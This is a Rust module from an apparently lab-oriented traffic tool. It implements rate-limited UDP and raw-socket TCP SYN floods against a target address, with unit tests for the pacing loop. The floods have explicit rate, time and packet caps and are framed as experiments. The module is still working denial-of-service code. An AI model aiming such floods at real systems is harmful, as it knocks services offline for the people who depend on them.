//! The paced send loop shared by the UDP and SYN floods, and their sockets.
//!
//! One thread is enough: a sendto costs a few microseconds, so one core reaches hundreds of
//! thousands of packets per second, past 1 Gbit/s for full-size datagrams; and on a shared
//! 2-core machine a second sending thread would steal the victim's CPU, not the network's.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::packet::{build_syn, SynSpec, SYN_LEN};
use crate::rate::{burst_for, mbit_to_bytes_per_sec, TokenBucket};
use crate::rng::Rng;
use crate::summary::{StoppedBy, Tally};

/// The three bounds every flood has; the CLI has checked them.
#[derive(Debug, Clone, Copy)]
pub struct Bounds {
    pub mbit: f64,
    pub duration: Duration,
    pub max_packets: u64,
}

/// IPv4 (20) + UDP (8) header bytes, counted with each datagram's payload toward the rate,
/// because tc shapes and the victim's link carries whole IP packets.
pub const UDP_OVERHEAD: usize = 28;

/// Sends `wire_len`-byte packets with `send` until the time or the packet cap runs out, at
/// most `bounds.mbit`. A failed send still uses its tokens and counts against the cap, so a
/// flood that only fails (no route, no buffer space) stays as bounded as one that succeeds.
pub fn paced(bounds: Bounds, wire_len: usize, mut send: impl FnMut() -> io::Result<()>) -> Tally {
    let rate = mbit_to_bytes_per_sec(bounds.mbit);
    let len = wire_len as f64;
    let mut bucket = TokenBucket::new(rate, burst_for(rate, len));
    let mut tally = Tally::new();
    let mut attempts: u64 = 0;
    let start = Instant::now();
    loop {
        let now = start.elapsed();
        if now >= bounds.duration {
            tally.stopped_by = StoppedBy::Time;
            break;
        }
        if attempts >= bounds.max_packets {
            tally.stopped_by = StoppedBy::Packets;
            break;
        }
        match bucket.try_take(now, len) {
            Ok(()) => {
                attempts += 1;
                match send() {
                    Ok(()) => {
                        tally.packets += 1;
                        tally.bytes += wire_len as u64;
                    }
                    Err(e) => {
                        tally.errors += 1;
                        tally.last_error = Some(e.to_string());
                    }
                }
            }
            // Sleeping past the wait is harmless: the bucket keeps the tokens that accrue
            // meanwhile (up to its burst), so the long-run rate holds.
            Err(wait) => std::thread::sleep(wait.min(bounds.duration.saturating_sub(now))),
        }
    }
    tally.elapsed = start.elapsed();
    tally
}

/// UDP datagrams of `size` payload bytes. The payload is random once, not per datagram:
/// content does not matter to a volume flood, and regenerating it would cost CPU at 1 Gbit/s.
pub fn udp(dst: SocketAddrV4, size: usize, bounds: Bounds) -> anyhow::Result<Tally> {
    let sock = UdpSocket::bind(SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, 0))?;
    let mut payload = vec![0u8; size];
    Rng::from_entropy(1).fill(&mut payload);
    // Unconnected sendto: a connected socket would turn the victim's ICMP port-unreachable
    // replies into errors on later sends, and a flood at a closed port is a valid experiment.
    Ok(paced(bounds, size + UDP_OVERHEAD, || {
        sock.send_to(&payload, dst).map(|_| ())
    }))
}

/// The address this namespace would send from to reach `dst`: connecting a UDP socket picks
/// the route and source without sending anything.
pub fn source_for(dst: Ipv4Addr) -> anyhow::Result<Ipv4Addr> {
    let probe = UdpSocket::bind(SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, 0))?;
    probe.connect(SocketAddrV4::new(dst, 9))?;
    match probe.local_addr()? {
        std::net::SocketAddr::V4(a) => Ok(*a.ip()),
        std::net::SocketAddr::V6(a) => anyhow::bail!("route to {dst} chose IPv6 source {a}"),
    }
}

/// TCP SYNs from `src` (random ports, sequence numbers and IP ids) on a raw socket.
pub fn syn(src: Ipv4Addr, dst: SocketAddrV4, bounds: Bounds) -> anyhow::Result<Tally> {
    // IPPROTO_RAW: a send-only raw socket; IP_HDRINCL is implied by it on Linux but set
    // anyway so that the intent does not hang on that detail.
    let sock = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))
        .map_err(|e| anyhow::anyhow!("raw socket (needs CAP_NET_RAW, e.g. root): {e}"))?;
    sock.set_header_included_v4(true)?;
    // The port in a raw socket's destination is ignored; the TCP header carries it.
    let to = SockAddr::from(SocketAddrV4::new(*dst.ip(), 0));
    let mut rng = Rng::from_entropy(2);
    Ok(paced(bounds, SYN_LEN, || {
        let packet = build_syn(&SynSpec {
            src,
            dst: *dst.ip(),
            src_port: rng.port(),
            dst_port: dst.port(),
            seq: rng.next_u32(),
            ip_id: rng.next_u32() as u16,
        });
        sock.send_to(&packet, &to).map(|_| ())
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paced_stops_at_the_packet_cap() {
        let bounds = Bounds {
            mbit: 1000.0,
            duration: Duration::from_secs(10),
            max_packets: 50,
        };
        let mut sent = 0;
        let t = paced(bounds, 100, || {
            sent += 1;
            Ok(())
        });
        assert_eq!(sent, 50);
        assert_eq!(t.packets, 50);
        assert_eq!(t.stopped_by, StoppedBy::Packets);
        assert!(t.elapsed < Duration::from_secs(2));
    }

    #[test]
    fn paced_stops_at_the_deadline_and_holds_the_rate() {
        // 1 Mbit/s of 1000-byte packets is 125 per second.
        let bounds = Bounds {
            mbit: 1.0,
            duration: Duration::from_millis(800),
            max_packets: 1_000_000,
        };
        let t = paced(bounds, 1000, || Ok(()));
        assert_eq!(t.stopped_by, StoppedBy::Time);
        assert!(t.elapsed < Duration::from_millis(1500), "{:?}", t.elapsed);
        assert!((80..=110).contains(&t.packets), "{} packets", t.packets);
    }

    #[test]
    fn failed_sends_count_against_the_cap() {
        let bounds = Bounds {
            mbit: 1000.0,
            duration: Duration::from_secs(10),
            max_packets: 20,
        };
        let t = paced(bounds, 100, || Err(io::Error::other("no route")));
        assert_eq!(t.packets, 0);
        assert_eq!(t.errors, 20);
        assert_eq!(t.last_error.as_deref(), Some("no route"));
        assert_eq!(t.stopped_by, StoppedBy::Packets);
    }
}
